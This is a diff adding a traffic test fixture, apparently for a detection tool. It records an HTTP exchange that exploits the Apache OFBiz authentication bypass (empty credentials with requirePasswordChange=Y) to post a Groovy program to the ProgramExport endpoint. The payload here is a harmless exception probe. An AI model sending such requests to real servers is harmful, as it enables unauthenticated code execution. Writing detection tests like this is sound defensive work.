@@ -1,0 +1,19 @@
+# OFBiz, program export without a login.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:80
+
+>>>
+POST /webtools/control/ProgramExport?USERNAME=&PASSWORD=&requirePasswordChange=Y HTTP/1.1\r\n
+Host: shop.example\r\n
+Content-Type: application/x-www-form-urlencoded\r\n
+User-Agent: Mozilla/5.0\r\n
+Content-Length: 36\r\n
+\r\n
+groovyProgram=throw+new+Exception(1)
+
+<<<
+HTTP/1.1 200 OK\r\n
+Content-Length: 2\r\n
+\r\n
+ok
